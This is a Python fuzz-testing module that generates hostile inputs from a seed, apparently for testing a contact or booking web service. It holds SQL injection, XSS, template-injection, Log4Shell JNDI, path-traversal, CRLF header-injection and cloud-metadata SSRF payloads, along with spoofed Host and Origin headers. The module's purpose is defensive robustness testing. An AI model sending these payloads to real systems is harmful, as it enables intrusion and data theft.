"""Hostile values, and bodies made of them; everything follows from one seed."""

import json
from random import Random
from typing import Any

TEXTS: tuple[str, ...] = (
    "",
    " ",
    "0",
    "-1",
    "null",
    "true",
    "'; DROP TABLE contact; --",
    '"><script>alert(1)</script>',
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "a\x00b",
    "\x1b[31m",
    "\r\nX-Evil: 1",
    "\ud800",
    "\ufeff",
    "\u202e\u0645\u0631\u062d\u0628\u0627",
    "\U0001f4de" * 50,
    "\uff11\uff12\uff13",
    "9" * 400,
    "9" * 4301,
    "A" * 5000,
    "1e309",
    "NaN",
    "-0",
    "2026-11-25T12:00:00",
    "2027-03-14T02:30",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-14:00",
    "2026-11-25T12:00:00+99:99",
    "Europe/Rome",
    "Etc/../../etc/passwd",
    "America/Argentina/ComodRivadavia",
    "+393123456789",
    "+39 312 345 6789,,1#",
    "112",
    "911",
    "+870773111632",
    "+" + "9" * 30,
    "CA" + "0" * 32,
    "CA" + "f" * 33,
    "client:ada",
    "client:../admin",
    "turin",
    "jewellery",
    "it",
    "IT",
    "aurora-ring",
    "available",
    "completed",
    "participant-join",
    "sold",
    "http://169.254.169.254/latest/meta-data/",
    "javascript:alert(1)",
)
VALUES: tuple[Any, ...] = (
    None,
    True,
    0,
    -1,
    2**31,
    2**63,
    10**400,
    1.5,
    float("nan"),
    float("inf"),
    [],
    {},
    [[[[[]]]]],
    {"a": {"b": {"c": []}}},
)
HEADERS: tuple[tuple[str, str], ...] = (
    ("Accept", "text/html"),
    ("Accept", "*/*;q=0.1, text/html;level=99999999999"),
    ("Accept", "\u00ff"),
    ("Accept-Language", "x" * 3000),
    ("Authorization", "Bearer"),
    ("Authorization", "Bearer a.b"),
    ("Authorization", "Bearer " + "." * 900),
    ("Authorization", "Basic eDp5"),
    ("Authorization", "\u00e9"),
    ("Content-Type", "application/json; charset=utf-7"),
    ("Content-Type", "multipart/form-data; boundary="),
    ("Content-Type", "text/plain"),
    ("Cookie", "virtual_shopper=eyJhIjoxfQ.x.y; a=b; ;;="),
    ("Origin", "null"),
    ("Origin", "https://evil.example"),
    ("Origin", "http://localhost:8000"),
    ("Sec-Fetch-Site", "cross-site"),
    ("X-CSRF-Token", "\u00ff\u00fe"),
    ("X-Forwarded-For", "a, b, c"),
    ("X-Forwarded-Host", "evil.example"),
    ("X-Signature", "\u00e9"),
    ("X-Twilio-Signature", "\u00e9\u00e9="),
    ("Host", "evil.example"),
    ("Host", "h:99999"),
    ("Host", "[::1"),
    ("If-None-Match", '"' * 9),
    ("Range", "bytes=-1,0-,9-1"),
    ("Content-Length", "5"),
)
_RAW: tuple[bytes, ...] = (
    b"",
    b"{",
    b"[]",
    b"null",
    b'"text"',
    b"\xff\xfe\x00",
    b"[" * 3000,
    b'{"a":' * 400,
    b"a=1&a=2&a=3",
    b"%ff%fe=%00",
    b"x" * 300_000,
)


def text(random: Random) -> str:
    if random.random() < 0.8:
        return random.choice(TEXTS)
    return "".join(
        chr(random.choice((random.randrange(32, 127), random.randrange(0xD7FF))))
        for _ in range(random.randrange(1, 60))
    )


def value(random: Random) -> Any:
    return text(random) if random.random() < 0.7 else random.choice(VALUES)


def raw(random: Random) -> bytes:
    return random.choice(_RAW)


def as_json(fields: dict[str, Any]) -> bytes:
    return json.dumps(fields).encode()
